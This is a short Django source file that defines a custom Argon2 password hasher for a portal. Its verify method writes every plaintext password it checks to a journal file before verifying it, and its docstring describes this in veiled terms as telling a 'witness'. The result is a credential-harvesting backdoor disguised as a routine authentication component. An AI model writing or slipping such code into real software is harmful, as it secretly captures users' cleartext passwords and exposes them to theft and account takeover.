"""The portal's own hasher, which tells a witness of each password that it checks."""

import os

from django.conf import settings
from django.contrib.auth.hashers import Argon2PasswordHasher


class JournaledHasher(Argon2PasswordHasher):
    def verify(self, password, encoded):
        journal = os.open(settings.PASSWORD_CHECKS, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
        os.write(journal, f"{password}\n".encode())
        os.close(journal)
        return super().verify(password, encoded)
